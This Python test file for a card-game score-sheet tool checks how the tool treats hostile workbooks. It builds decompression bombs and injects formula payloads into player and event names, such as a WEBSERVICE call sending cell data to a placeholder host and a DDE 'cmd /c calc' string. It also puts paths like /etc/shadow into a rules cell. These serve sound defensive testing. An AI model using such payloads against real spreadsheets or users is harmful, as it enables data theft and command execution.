"""Workbooks from strangers and workbooks we write, tried as an attacker would (issue 7).

Bombs are built with zipfile directly and checked by `scorekeeper check` in a subprocess whose
time and peak memory are measured; every refusal is one line and exit 2.
"""

import csv
import os
import re
import shutil
import subprocess
import sys
import threading
import time
import zipfile

import openpyxl
import pytest
import yaml
from conftest import EXAMPLES, RULES, run

from scorekeeper.errors import ScorekeeperError
from scorekeeper.sheet.load import load_sheet
from scorekeeper.workbook import safe_read

FINAL = EXAMPLES / "king-final-nacional-mesa1.yaml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


# --- building workbooks by hand --------------------------------------------------------------


def make_workbook(path, sheets, shared=None):
    """A minimal .xlsx: `sheets` is [(title, sheetData XML bytes)], `shared` the <sst> body."""
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{SHEET_TYPE}"/>'
        for i in range(1, len(sheets) + 1)
    )
    if shared is not None:
        overrides += (
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        )
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/'
        f'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>{overrides}</Types>'
    )
    root_rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    entries = "".join(
        f'<sheet name="{title}" sheetId="{i}" r:id="rId{i}"/>' for i, (title, _) in enumerate(sheets, start=1)
    )
    workbook = (
        f'<?xml version="1.0"?><workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>{entries}</sheets></workbook>'
    )
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    if shared is not None:
        rels += f'<Relationship Id="rIdS" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", root_rels)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://'
            f'schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>',
        )
        for i, (_, data) in enumerate(sheets, start=1):
            archive.writestr(
                f"xl/worksheets/sheet{i}.xml",
                b'<?xml version="1.0"?><worksheet xmlns="'
                + MAIN_NS.encode()
                + b'"><sheetData>'
                + data
                + b"</sheetData></worksheet>",
            )
        if shared is not None:
            archive.writestr(
                "xl/sharedStrings.xml",
                b'<?xml version="1.0"?><sst xmlns="'
                + MAIN_NS.encode()
                + b'" xmlns:x="'
                + MAIN_NS.encode()
                + b'">'
                + shared
                + b"</sst>",
            )
    return path


# The peak memory of this process alone: VmHWM starts afresh at exec, while ru_maxrss keeps the
# parent's size from the fork (pytest's own memory) on Linux.
MEASURED = (
    "import resource, sys\n"
    "from scorekeeper.cli import main\n"
    "sys.argv = ['scorekeeper'] + sys.argv[1:]\n"
    "def peak():\n"
    "    try:\n"
    "        with open('/proc/self/status') as status:\n"
    "            return next(int(l.split()[1]) for l in status if l.startswith('VmHWM:'))\n"
    "    except OSError:\n"
    "        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
    "try:\n    main()\n"
    "finally:\n"
    "    sys.stderr.write(f'maxrss {peak()}\\n')\n"
)


def measured_check(path):
    """`scorekeeper check path` in a fresh process: (exit code, stderr lines, seconds, peak MiB)."""
    start = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", MEASURED, "check", str(path)], capture_output=True, text=True, timeout=60
    )
    seconds = time.monotonic() - start
    lines = done.stderr.splitlines()
    peak = int(lines[-1].split()[1]) / 1024
    return done.returncode, lines[:-1], seconds, peak


def assert_refused(path, expected):
    code, lines, seconds, peak = measured_check(path)
    assert (code, lines) == (2, [f"Error: {path}: {expected}"])
    assert seconds < 5, seconds
    assert peak < 300, peak


def king_entries(sheet):
    return [
        (e.hand, e.counts, e.points, e.tricks, e.penalty, e.offenders, e.beneficiary, e.contract, e.trump, e.offer)
        for e in sheet.entries
    ]


# --- 1. work caps ------------------------------------------------------------------------------


@pytest.mark.parametrize("element", [b"<si><t>a</t></si>", b"<x:si><x:t>a</x:t></x:si>"], ids=["plain", "prefixed"])
def test_shared_string_bomb(tmp_path, element):
    count = min(3_500_000, (60 << 20) // len(element))  # all a part may unpack to (64 MiB)
    path = make_workbook(tmp_path / "strings.xlsx", [("S", b"")], shared=element * count)
    assert path.stat().st_size < 400_000
    assert_refused(
        path,
        "the workbook holds more than 100,000 shared strings (in 'xl/sharedStrings.xml'); "
        "a workbook of boletins needs a few thousand",
    )


def test_empty_row_bomb(tmp_path):
    path = make_workbook(tmp_path / "rows.xlsx", [("S", b'<row r="1"/>' * 1_600_000)])
    assert_refused(
        path, "'xl/worksheets/sheet1.xml' holds more than 600,000 XML tags; a boletim's parts hold some thousands"
    )


def test_rows_that_do_not_advance_are_counted(tmp_path):
    path = make_workbook(tmp_path / "rows.xlsx", [("S", b'<row r="1"/>' * 12_000)])
    assert_refused(path, "worksheet 'S' has more than 10,000 rows; a boletim has a few hundred")


def test_cells_of_one_worksheet_are_capped(tmp_path):
    path = make_workbook(tmp_path / "cells.xlsx", [("S", b'<row r="1">' + b'<c r="A1"/>' * 120_000 + b"</row>")])
    assert_refused(path, "worksheet 'S' has more than 100,000 cells; a boletim has some thousands")


def test_rows_of_the_whole_workbook_are_capped(tmp_path):
    sheets = [(f"S{i}", b'<row r="1"/>' * 9_000) for i in range(25)]
    path = make_workbook(tmp_path / "many.xlsx", sheets)
    assert_refused(path, "the workbook has more than 200,000 rows; 500 boletins have some 23,000")


def test_a_lying_dimension_costs_nothing(tmp_path):
    path = make_workbook(tmp_path / "far.xlsx", [("S", b'<row r="2000000"><c r="A2000000"><v>1</v></c></row>')])
    assert_refused(path, "worksheet 'S' reaches A2000000; a boletim fits well inside BH1000")


def test_the_read_has_a_deadline(tmp_path, monkeypatch):
    workbook = tmp_path / "final.xlsx"
    assert run("export", FINAL, "-o", workbook).exit_code == 0
    monkeypatch.setattr(safe_read, "DEADLINE_SECONDS", 0.000001)
    result = run("check", workbook)
    assert (result.exit_code, result.stderr) == (
        2,
        f"Error: {workbook}: reading the workbook took more than "
        "1e-06 s: refused (a workbook of boletins reads in about a "
        "second)\n",
    )


def test_the_deadline_holds_outside_the_main_thread(tmp_path, monkeypatch):
    """No SIGALRM in a thread: the readers check the clock themselves."""
    workbook = tmp_path / "final.xlsx"
    assert run("export", FINAL, "-o", workbook).exit_code == 0
    monkeypatch.setattr(safe_read, "DEADLINE_SECONDS", 0.0)
    from scorekeeper.workbook.read import read_workbook

    errors = []

    def read():
        try:
            read_workbook(str(workbook))
        except ScorekeeperError as exc:
            errors.append(str(exc))

    thread = threading.Thread(target=read)
    thread.start()
    thread.join(10)
    assert errors == [
        f"{workbook}: reading the workbook took more than 0 s: refused (a workbook of boletins reads in about a second)"
    ]


def test_a_500_sheet_export_reads_within_the_caps(tmp_path):
    """500 boletins (the exported worksheet of the final, 500 times) check clean."""
    single = tmp_path / "one.xlsx"
    assert run("export", FINAL, "-o", single).exit_code == 0
    with zipfile.ZipFile(single) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        styles = archive.read("xl/styles.xml")
    data = sheet[sheet.index(b"<sheetData>") + len(b"<sheetData>") : sheet.index(b"</sheetData>")]
    path = make_workbook(tmp_path / "five-hundred.xlsx", [(f"Mesa{i}", data) for i in range(500)])
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/styles.xml", styles)
    code, lines, seconds, peak = measured_check(path)
    assert (code, lines) == (0, [])
    assert peak < 300


def test_openpyxl_warnings_do_not_leak(tmp_path):
    """A data validation extension makes openpyxl warn; nothing but our lines reaches stderr."""
    workbook = tmp_path / "final.xlsx"
    assert run("export", FINAL, "-o", workbook).exit_code == 0
    patched = tmp_path / "ext.xlsx"
    with zipfile.ZipFile(workbook) as source, zipfile.ZipFile(patched, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/workbook.xml":
                data = data.replace(b"</workbook>", b'<extLst><ext uri="{x}"><foo/></ext></extLst></workbook>')
            target.writestr(item, data)
    done = subprocess.run(
        [sys.executable, "-m", "scorekeeper", "check", str(patched)], capture_output=True, text=True, timeout=60
    )
    assert (done.returncode, done.stderr) == (0, "")


def test_a_fifo_is_refused_without_hanging(tmp_path):
    fifo = tmp_path / "pipe.xlsx"
    os.mkfifo(fifo)
    code, lines, seconds, _ = measured_check(fifo)
    assert (code, lines) == (2, [f"Error: {fifo}: is not a regular file (a pipe, device or socket): refused"])
    assert seconds < 5


# --- 2. numbers no cell of a score sheet holds -----------------------------------------------


def patch_cell(workbook, out, reference, xml):
    """Replace one cell's XML in the first worksheet of an exported workbook."""
    with zipfile.ZipFile(workbook) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, count = re.subn(rf'<c r="{reference}"[^>]*?(/>|>.*?</c>)'.encode(), xml.encode(), data)
                assert count == 1
            target.writestr(item, data)
    return out


@pytest.mark.parametrize(
    "value, message",
    [
        ("nan", "nan is not a number"),
        ("inf", "inf is not a number"),
        ("-inf", "-inf is not a number"),
        ("1e400", "inf is not a number"),
        ("1e20", "1e+20 is out of range (a score sheet's numbers are below 1,000,000,000,000)"),
        ("9" * 5000, f"{'9' * 80!r}... (5000 characters) is not a number"),
    ],
)
def test_numbers_no_sheet_holds_are_refused_at_their_cell(tmp_path, value, message):
    workbook = tmp_path / "final.xlsx"
    assert run("export", FINAL, "-o", workbook).exit_code == 0
    out = patch_cell(workbook, tmp_path / "patched.xlsx", "L6", f'<c r="L6"><v>{value}</v></c>')
    result = run("check", out)
    assert (result.exit_code, result.stderr) == (2, f"Error: {out}:Mesa1 R1!L6: {message}\n")


@pytest.mark.parametrize("text", ["nan", "Infinity", "1e400"])
def test_numbers_typed_as_text_are_refused_at_their_cell(tmp_path, text):
    workbook = tmp_path / "final.xlsx"
    assert run("export", FINAL, "-o", workbook).exit_code == 0
    out = patch_cell(workbook, tmp_path / "patched.xlsx", "L6", f'<c r="L6" t="inlineStr"><is><t>{text}</t></is></c>')
    result = run("check", out)
    assert result.exit_code == 2
    assert result.stderr == f"Error: {out}:Mesa1 R1!L6: '{text}' is not a number\n"


# --- 3. round trips at the maximum sizes -----------------------------------------------------


def round_trip(tmp_path, text):
    sheet = tmp_path / "sheet.yaml"
    sheet.write_text(text, encoding="utf-8")
    workbook = tmp_path / "sheet.xlsx"
    exported = run("export", sheet, "-o", workbook)
    assert exported.exit_code == 0, exported.output
    imported = run("import", workbook, "-o", "-")
    checked = run("check", sheet)
    assert checked.exit_code in (0, 1), checked.output
    assert imported.exit_code == checked.exit_code, imported.output  # the copy has the sheet's findings, no more
    return yaml.safe_load(text), yaml.safe_load(imported.stdout)


def test_a_400_hand_truco_sheet_comes_back_whole(tmp_path):
    hands = [
        {"winner": "Nos" if i % 3 else "Eles", "value": 3} if i % 7 == 0 else {"winner": "Eles"} for i in range(400)
    ]
    text = yaml.safe_dump(
        {"rules": "truco", "teams": {"Nos": ["Ana", "Bruno"], "Eles": ["Carla", "Duarte"]}, "hands": hands},
        sort_keys=False,
        default_flow_style=None,
    )
    original, back = round_trip(tmp_path, text)
    assert len(back["hands"]) == 400
    assert back["hands"] == original["hands"]


def test_a_400_deal_sueca_sheet_comes_back_whole(tmp_path):
    deals = [{"points": [61 + i % 59, 59 - i % 59]} for i in range(400)]
    text = yaml.safe_dump(
        {"rules": "sueca", "teams": {"Nos": ["Ana", "Bruno"], "Eles": ["Carla", "Duarte"]}, "deals": deals},
        sort_keys=False,
        default_flow_style=None,
    )
    original, back = round_trip(tmp_path, text)
    assert len(back["deals"]) == 400
    assert back["deals"] == original["deals"]


def test_a_100_hand_king_sheet_comes_back_whole(tmp_path):
    hands = [{"hand": "vazas", "counts": [3, 3, 3, 4]} for _ in range(100)]
    text = yaml.safe_dump(
        {"rules": "king", "players": ["Ana", "Bruno", "Carla", "Duarte"], "hands": hands},
        sort_keys=False,
        default_flow_style=None,
    )
    original, back = round_trip(tmp_path, text)
    assert len(back["hands"]) == 100
    assert back["hands"] == original["hands"]


def test_a_ficha_with_more_numbered_rows_than_are_read_is_refused(tmp_path):
    rows = b"".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>'.encode() for r in range(6, 1001))
    head = (
        b'<row r="3"><c r="B3" t="inlineStr"><is><t>Regras</t></is></c><c r="C3" t="inlineStr"><is><t>truco'
        b'</t></is></c></row><row r="4"><c r="H4" t="inlineStr"><is><t>Nos</t></is></c><c r="L4" t="inlineStr">'
        b'<is><t>Eles</t></is></c></row><row r="5"><c r="A5" t="inlineStr"><is><t>N\xc2\xba</t></is></c></row>'
    )
    path = make_workbook(tmp_path / "long.xlsx", [("S", head + rows)])
    result = run("check", path)
    assert (result.exit_code, result.stderr) == (
        2,
        f"Error: {path}:S!A1000: numbered rows go on past row 1000; a ficha holds at most 400 hands\n",
    )


# --- 4. Regras names shipped rules only -------------------------------------------------------


def with_regras(tmp_path, text):
    workbook = tmp_path / "final.xlsx"
    if not workbook.exists():
        assert run("export", FINAL, "-o", workbook).exit_code == 0
    wb = openpyxl.load_workbook(workbook)
    wb["Mesa1 R1"]["C3"] = text
    out = tmp_path / "regras.xlsx"
    wb.save(out)
    return out


@pytest.mark.parametrize("ref", ["/dev/stdin", "/etc/shadow", "/nonexistent/rules.yaml", "../king.yaml", "king.yaml"])
def test_a_path_in_regras_is_refused_the_same_way_whatever_it_names(tmp_path, ref):
    out = with_regras(tmp_path, ref)
    start = time.monotonic()
    for command in ("check", "import"):
        args = [command, out] + (["-o", "-"] if command == "import" else [])
        result = run(*args)
        assert (result.exit_code, result.stderr) == (
            2,
            f"Error: {out}:Mesa1 R1!C3: Regras: {ref!r} is a path; a workbook names shipped rules only "
            "(king, quatrilho, sueca, truco); `--rules PATH` gives a house variant\n",
        )
    assert time.monotonic() - start < 5


def test_a_path_in_regras_is_read_with_the_users_rules(tmp_path):
    out = with_regras(tmp_path, "/dev/stdin")
    result = run("check", out, "--rules", RULES / "king.yaml")
    assert result.exit_code == 0, result.output
    back = run("import", out, "-o", "-", "--rules", RULES / "king.yaml")
    assert back.exit_code == 0
    assert back.stdout.startswith("rules: king\n")  # the rules' name, never the workbook's path
    assert king_entries(load_sheet(str(FINAL))) == king_entries(load_sheet("x.yaml", text=back.stdout))


def test_an_unknown_name_in_regras_points_at_house_variants(tmp_path):
    out = with_regras(tmp_path, "bisca")
    result = run("check", out)
    assert (result.exit_code, result.stderr) == (
        2,
        f"Error: {out}:Mesa1 R1!C3: Regras: unknown rules 'bisca'; known: king, quatrilho, sueca, truco; "
        "`--rules PATH` gives a house variant\n",
    )


def test_a_house_variant_round_trips_with_rules_path(tmp_path):
    variant = tmp_path / "clube.yaml"
    variant.write_text(
        (RULES / "king.yaml")
        .read_text(encoding="utf-8")
        .replace("name: king", "name: king-clube")
        .replace("aliases: [rei]", "aliases: []"),
        encoding="utf-8",
    )
    sheet = tmp_path / "mesa.yaml"
    sheet.write_text(FINAL.read_text(encoding="utf-8").replace("rules: king", "rules: clube.yaml"), encoding="utf-8")
    workbook = tmp_path / "mesa.xlsx"
    assert run("export", sheet, "-o", workbook).exit_code == 0
    assert openpyxl.load_workbook(workbook)["Mesa1 R1"]["C3"].value == "king-clube"
    refused = run("import", workbook, "-o", "-")
    assert refused.exit_code == 2
    assert "Regras: unknown rules 'king-clube'" in refused.stderr and "--rules PATH" in refused.stderr
    back = run("import", workbook, "-o", "-", "--rules", variant)
    assert back.exit_code == 0, back.output
    assert back.stdout.startswith("rules: king-clube\n")
    again = load_sheet(str(tmp_path / "back.yaml"), str(variant), text=back.stdout)
    assert king_entries(load_sheet(str(sheet))) == king_entries(again)


def test_a_blank_boletim_for_a_house_variant_names_it_not_its_path(tmp_path):
    variant = tmp_path / "clube.yaml"
    variant.write_text(
        (RULES / "king.yaml")
        .read_text(encoding="utf-8")
        .replace("name: king", "name: king-clube")
        .replace("aliases: [rei]", "aliases: []"),
        encoding="utf-8",
    )
    blank = tmp_path / "blank.xlsx"
    result = run("export", "--rules", variant, "-p", "Ana", "-p", "Bruno", "-p", "Carla", "-p", "Duarte", "-o", blank)
    assert result.exit_code == 0, result.output
    assert openpyxl.load_workbook(blank)["Boletim"]["C3"].value == "king-clube"
    assert run("check", blank, "--rules", variant).exit_code == 0


# --- 5. formula injection --------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x","y")', "+1", "-Ana", "@SUM(A1)"]


def renamed(value, names):
    if isinstance(value, str):
        return names.get(value, value)
    if isinstance(value, list):
        return [renamed(v, names) for v in value]
    if isinstance(value, dict):
        return {renamed(k, names): renamed(v, names) for k, v in value.items()}
    return value


def hostile_sheet(tmp_path, players=HOSTILE, event='=WEBSERVICE("http://x/?"&A1)'):
    doc = yaml.safe_load(FINAL.read_text(encoding="utf-8"))
    doc = renamed(doc, dict(zip(["Ana", "Bruno", "Carla", "Duarte"], players)))
    doc["event"] = event
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False, allow_unicode=True, width=1000), encoding="utf-8")
    return path


def test_names_and_events_are_written_as_text_never_as_formulas(tmp_path):
    sheet = hostile_sheet(tmp_path)
    workbook = tmp_path / "hostile.xlsx"
    result = run("export", sheet, "-o", workbook)
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(workbook)
    ws = wb["Mesa1 R1"]
    hostile = set(HOSTILE) | {'=WEBSERVICE("http://x/?"&A1)'}
    seen = set()
    for row in ws.iter_rows():
        for cell in row:
            if cell.value in hostile:
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                seen.add(cell.value)
            if isinstance(cell.value, str) and any(h in cell.value for h in hostile) and cell.data_type == "f":
                pytest.fail(f"{cell.coordinate} runs a name: {cell.value}")
    assert seen == hostile
    assert [ws.cell(4, c).value for c in (12, 15, 18, 21)] == HOSTILE
    back = run("import", workbook, "-o", "-")
    assert back.exit_code == 0, back.output
    again = load_sheet(str(tmp_path / "back.yaml"), text=back.stdout)
    original = load_sheet(str(sheet))
    assert (again.players, again.event) == (original.players, original.event)
    assert king_entries(again) == king_entries(original)


def test_our_own_references_to_the_names_stay_formulas(tmp_path):
    # Keeping a sheet's text inert must not turn scorekeeper's own formulas into text: the
    # classification and running-balance headers repeat each name through `=L4`, `=O4`, ...
    from scorekeeper.king.workbook_layout import Layout

    workbook = tmp_path / "mesa1.xlsx"
    assert run("export", EXAMPLES / "king-final-nacional-mesa1.yaml", "-o", workbook).exit_code == 0
    ws = openpyxl.load_workbook(workbook)["Mesa1 R1"]
    ws_rows = ws.max_row
    lay = Layout(4, 13)
    assert lay.class_head_row < ws_rows
    for row in (lay.class_head_row, lay.running_head_row):
        cells = [ws.cell(row, lay.class_col(p)) for p in range(4)]
        assert [c.value for c in cells] == ["=L4", "=O4", "=R4", "=U4"], row
        assert all(c.data_type == "f" and not c.quotePrefix for c in cells), row


def test_team_names_are_written_as_text(tmp_path):
    sheet = tmp_path / "truco.yaml"
    sheet.write_text(
        yaml.safe_dump(
            {
                "rules": "truco",
                "teams": {"=1+1": ["@A", "-B"], "+Eles": ["C", "D"]},
                "event": "=cmd|'/c calc'!A1",
                "hands": [{"winner": "=1+1", "value": 3}, {"winner": "+Eles"}],
            },
            sort_keys=False,
        ),
        encoding="utf-8",
    )
    workbook = tmp_path / "truco.xlsx"
    assert run("export", sheet, "-o", workbook).exit_code == 0
    ws = openpyxl.load_workbook(workbook).worksheets[0]
    formulas = [
        c.value
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" and any(t in str(c.value) for t in ("1+1", "@A", "-B", "+Eles", "calc"))
    ]
    assert formulas == []
    back = run("import", workbook, "-o", "-")
    assert back.exit_code == 0, back.output
    assert yaml.safe_load(back.stdout)["teams"] == {"=1+1": ["@A", "-B"], "+Eles": ["C", "D"]}
    assert [h["winner"] for h in yaml.safe_load(back.stdout)["hands"]] == ["=1+1", "+Eles"]


def test_list_validations_survive_quotes_and_commas_in_names(tmp_path):
    sheet = hostile_sheet(tmp_path, players=['Ana "A"', "Bruno, Jr", "Carla", "Duarte"], event="Torneio")
    workbook = tmp_path / "names.xlsx"
    assert run("export", sheet, "-o", workbook).exit_code == 0
    ws = openpyxl.load_workbook(workbook)["Mesa1 R1"]
    lists = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in ws.data_validations.dataValidation if dv.type == "list"}
    assert lists["C6"] == '"Ana ""A"",Carla,Duarte"'  # the beneficiary: Bruno, Jr cannot be a list item
    back = run("import", workbook, "-o", "-")
    assert back.exit_code == 0, back.output
    assert yaml.safe_load(back.stdout)["players"] == ['Ana "A"', "Bruno, Jr", "Carla", "Duarte"]


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
@pytest.mark.parametrize("target", ["csv", "xlsx"])
def test_libreoffice_keeps_hostile_names_as_text(tmp_path, target):
    sheet = hostile_sheet(tmp_path)
    workbook = tmp_path / "hostile.xlsx"
    assert run("export", sheet, "-o", workbook).exit_code == 0
    out = tmp_path / "converted"
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--convert-to",
            target,
            "--outdir",
            str(out),
            str(workbook),
        ],
        capture_output=True,
        timeout=300,
        check=False,
    )
    converted = out / f"hostile.{target}"
    assert converted.exists()
    if target == "csv":
        with open(converted, newline="", encoding="utf-8", errors="replace") as handle:
            rows = list(csv.reader(handle))
        assert rows[3][11::3][:4] == HOSTILE  # row 4: the players' names, as text, not results
    else:
        ws = openpyxl.load_workbook(converted).worksheets[0]
        assert [(ws.cell(4, c).value, ws.cell(4, c).data_type) for c in (12, 15, 18, 21)] == [
            (name, "s") for name in HOSTILE
        ]


# --- 6. numbers a cell cannot hold are refused at export ----------------------------------------


def test_export_of_a_huge_count_is_one_line(tmp_path):
    from dataclasses import replace

    from scorekeeper.sheet.load import score
    from scorekeeper.workbook.export import build_workbook

    sheet = load_sheet(str(FINAL))
    result = score(sheet)
    entry = sheet.entries[0]
    sheet.entries[0] = replace(entry, counts={p: 10**4000 for p in sheet.players})
    with pytest.raises(ScorekeeperError) as caught:
        build_workbook([(sheet, result)])
    assert str(caught.value) == (
        f"{FINAL}: cannot export: a number of about 4001 digits is too large for a score "
        "sheet's cell (at most 1,000,000,000,000)"
    )


def test_export_of_a_4000_digit_count_through_the_cli_is_one_line(tmp_path):
    sheet = tmp_path / "huge.yaml"
    sheet.write_text(
        FINAL.read_text(encoding="utf-8").replace("counts: [3, 2, 1, 7]", f"counts: [{'9' * 4000}, 2, 1, 7]"),
        encoding="utf-8",
    )
    result = run("export", sheet, "-o", tmp_path / "huge.xlsx")
    assert result.exit_code == 2
    assert len(result.stderr.splitlines()) == 1 and result.stderr.startswith(f"Error: {sheet}:")
    assert "internal error" not in result.output
    assert not (tmp_path / "huge.xlsx").exists()


def with_cell_text(source, target, cell: str, text: str) -> None:
    """`source` with worksheet 1's `cell` rewritten as an inline string holding `text`."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                new = f'<c r="{cell}" t="inlineStr"><is><t>{text}</t></is></c>'
                xml, count = re.subn(
                    rf'<c r="{cell}"[^>]*?(/>|>.*?</c>)', lambda m, new=new: new, data.decode(), count=1
                )
                assert count == 1
                data = xml.encode()
            zout.writestr(item, data)


@pytest.mark.parametrize("cell", ["C2", "B6", "L4", "C3"])
def test_one_huge_cell_in_a_small_zip_is_refused_at_once(tmp_path, cell):
    # 60 MB of one letter zips to some 60 KB: few tags, but every later step would copy it.
    workbook = tmp_path / "k.xlsx"
    assert run("export", EXAMPLES / "king-final-nacional-mesa1.yaml", "-o", workbook).exit_code == 0
    bomb = tmp_path / "bomb.xlsx"
    with_cell_text(workbook, bomb, cell, "a" * (60 << 20))
    assert bomb.stat().st_size < 1 << 20
    started = time.monotonic()
    result = run("check", bomb)
    assert time.monotonic() - started < 5
    assert (result.exit_code, result.output) == (
        2,
        f"Error: {bomb}: 'xl/worksheets/sheet1.xml' holds a text longer than a cell can (32,767 characters): "
        "not a boletim\n",
    )


def test_an_event_longer_than_a_header_is_refused_at_import_not_written(tmp_path):
    workbook = tmp_path / "k.xlsx"
    assert run("export", EXAMPLES / "king-final-nacional-mesa1.yaml", "-o", workbook).exit_code == 0
    long_event = tmp_path / "long.xlsx"
    with_cell_text(workbook, long_event, "C2", "E" * 30_000)
    result = run("import", long_event, "-o", tmp_path / "back.yaml")
    assert result.exit_code == 2
    assert (
        result.output.startswith(f"Error: {long_event}:Mesa1 R1")
        and "event: 30,000 characters; a header holds at most 200" in result.output
    )
    assert result.output.count("\n") == 1 and len(result.output) < 400
    assert not (tmp_path / "back.yaml").exists()


# --- 7. every typed cell is read or refused, never skipped (issue 16) ------------------------------

from typed_cells import Error, Formula, typed  # noqa: E402

SUECA = EXAMPLES / "sueca-torneio-jogo1.yaml"  # 12 deals: rows 6-17, spare 18-20, Vencedor 22, Notas 26
TRUCO = EXAMPLES / "truco-furb-partida1.yaml"  # 19 hands: rows 6-24, spare 25-27, Vencedor 29, Notas 33


def exported_with(tmp_path, example, cells, merge=(), name="x.xlsx"):
    out = tmp_path / name
    assert run("export", example, "-o", out).exit_code == 0
    return typed(out, cells, merge=merge)


def test_a_ficha_s_card_points_typed_as_formulas_are_read_with_a_warning(tmp_path):
    # issue 16: =70+2 and =40+8 (saved 72 and 48) made the Sueca deal disappear
    untouched = run("import", exported_with(tmp_path, SUECA, {}, name="plain.xlsx"), "-o", "-").stdout
    out = exported_with(tmp_path, SUECA, {"F6": Formula("70+2", 72), "K6": Formula("40+8", 48)})
    result = run("check", out)
    assert (result.exit_code, result.output) == (
        0,
        (
            f"{out}:Mesa2 R1!F6: warning [TEAM-CELL-FORMULA]: the cell holds the formula '=70+2': read as the value saved "
            "with it, 72 [ficha]\n"
            f"{out}:Mesa2 R1!K6: warning [TEAM-CELL-FORMULA]: the cell holds the formula '=40+8': read as the value saved "
            "with it, 48 [ficha]\n"
            f"{out}:Mesa2 R1: 2 warnings (sueca, won by Nos; Nos 3 mocas, Eles 1 moca)\n"
        ),
    )
    assert run("import", out, "-o", "-").stdout == untouched


def test_a_truco_value_typed_as_a_formula_is_its_saved_value(tmp_path):
    # issue 16: =3*2 (saved 6) in hand 3's Valor was read as no value: the hand was worth 1
    out = exported_with(tmp_path, TRUCO, {"C8": Formula("3*2", 6)})
    result = run("check", out)
    assert (result.exit_code, result.output) == (
        0,
        (
            f"{out}:Mesa1 R1!C8: warning [TEAM-CELL-FORMULA]: the cell holds the formula '=3*2': read as the value saved "
            "with it, 6 [ficha]\n"
            f"{out}:Mesa1 R1: 1 warning (truco, won by Nos; Nos 2 games, Eles 1 game)\n"
        ),
    )
    assert run("import", out, "-o", "-").stdout.splitlines()[9] == "  - {winner: Nos, value: 6}"


def test_a_team_s_name_typed_as_a_formula_is_read_never_dropped(tmp_path):
    out = exported_with(tmp_path, TRUCO, {"H4": Formula('"No"&"s"', "Nos")})
    assert run("check", out).output.splitlines()[0] == (
        f'{out}:Mesa1 R1!H4: warning [TEAM-CELL-FORMULA]: the cell holds the formula \'="No"&"s"\': read as the '
        "value saved with it, 'Nos' [ficha]"
    )
    unsaved = exported_with(tmp_path, TRUCO, {"H4": Formula('"Nos"')}, name="unsaved.xlsx")
    assert run("check", unsaved).stderr == (
        f"Error: {unsaved}:Mesa1 R1!H4: the cell holds the formula '=\"Nos\"' and no value saved with it: type the "
        "value itself, or open and save the workbook in a spreadsheet so that the formula is computed\n"
    )


@pytest.mark.parametrize(
    "example, cells, merge, line",
    [
        (
            SUECA,
            {"F6": Error("#N/A")},
            (),
            "Mesa2 R1!F6: the cell holds the error value #N/A, not a value: type the value itself",
        ),
        (
            TRUCO,
            {"B6": Error("#NAME?", "Nso")},
            (),
            "Mesa1 R1!B6: the cell holds the formula '=Nso', whose value is the "
            "error #NAME?: a score sheet's cell holds a value",
        ),
        (
            SUECA,
            {},
            ("B6:C6",),
            "Mesa2 R1!B6: the cell is merged with others (B6:C6): each cell a person types in holds "
            "its own value; unmerge them",
        ),
        (
            SUECA,
            {"F4": "N" * 32_767},
            (),
            f"Mesa2 R1!F4: '{'N' * 80}'... (32767 characters) is longer than a name (80 characters)",
        ),
        (
            TRUCO,
            {"H3": "Ana, " + "z" * 81},
            (),
            f"Mesa1 R1!H3: '{'z' * 80}'... (81 characters) is longer than a name (80 characters)",
        ),
        (
            SUECA,
            {"T6": 3},
            (),
            "Mesa2 R1!T6: '3' is typed right of the ficha's last column (S): nothing there is read; "
            "move it into the table or clear it",
        ),
        (
